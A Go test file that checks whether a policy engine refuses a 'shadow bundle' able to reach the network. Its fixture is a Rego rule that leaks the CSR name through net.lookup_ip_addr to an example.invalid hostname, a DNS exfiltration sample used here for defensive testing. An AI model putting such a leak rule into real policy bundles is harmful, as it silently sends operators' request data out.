package manager

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ichor-dev/ichor-policy/bundles"
)

// A shadow bundle sees every live input before the mask: one that could
// reach the network through a builtin the engine does not guard
// (net.lookup_ip_addr is not http.send) is refused at start, naming the call
// (review of 2026-12-05).
func TestAShadowBundleThatCouldReachTheNetworkIsRefused(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.CopyFS(dir, os.DirFS("../../policy")))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "ichor", "kubelet_serving", "leak.rego"), []byte(`package ichor.kubelet_serving

deny contains {"code": "Leak", "message": "never"} if {
	count(net.lookup_ip_addr(sprintf("%s.example.invalid", [input.csr.name]))) > 1000
}
`), 0o600))
	b, err := bundles.FromDir(dir)
	require.NoError(t, err)
	path := filepath.Join(t.TempDir(), "shadow.tar.gz")
	f, err := os.Create(path)
	require.NoError(t, err)
	require.NoError(t, bundles.Write(f, b))
	require.NoError(t, f.Close())

	_, _, _, err = newEngine(context.Background(), Options{ShadowBundle: path, Log: io.Discard})

	require.ErrorContains(t, err, "--shadow-bundle: the candidate calls net.lookup_ip_addr (")
}
